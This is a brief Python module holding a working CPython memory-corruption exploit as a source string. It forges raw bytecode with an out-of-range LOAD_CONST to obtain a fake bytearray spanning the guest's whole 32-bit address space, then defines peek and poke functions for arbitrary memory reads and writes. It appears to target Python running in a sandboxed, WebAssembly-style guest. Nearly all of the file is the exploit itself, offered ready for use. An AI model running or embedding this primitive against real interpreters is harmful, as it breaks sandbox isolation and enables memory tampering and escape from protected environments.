"""The strongest code there is: it reads and writes all of the guest's memory.

CPython does not check bytecode. A LOAD_CONST whose index lies outside of the
constants takes the reference to an object from any address; here the object is a
forged bytearray over the whole address space.
"""

from __future__ import annotations

#: Source that binds `memory`: the first 2 GiB of linear memory, as a bytearray.
MEMORY = """
import struct as _struct, opcode as _opcode
def _object_at(slot):
    def take(): return None
    index = ((slot - (id(take.__code__.co_consts) + 12)) & 0xFFFFFFFF) // 4
    op = _opcode.opmap
    code = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        code += [op["EXTENDED_ARG"], index >> shift & 255]
    code += [op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0]
    take.__code__ = take.__code__.replace(co_code=bytes(code))
    return take()
_fake = _struct.pack("<7I", 1 << 30, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0)
_slot = _struct.pack("<I", id(_fake) + 16)
memory = _object_at(id(_slot) + 16)
def peek(address): return _struct.unpack_from("<I", memory, address)[0]
def poke(address, value): _struct.pack_into("<I", memory, address, value & 0xFFFFFFFF)
"""
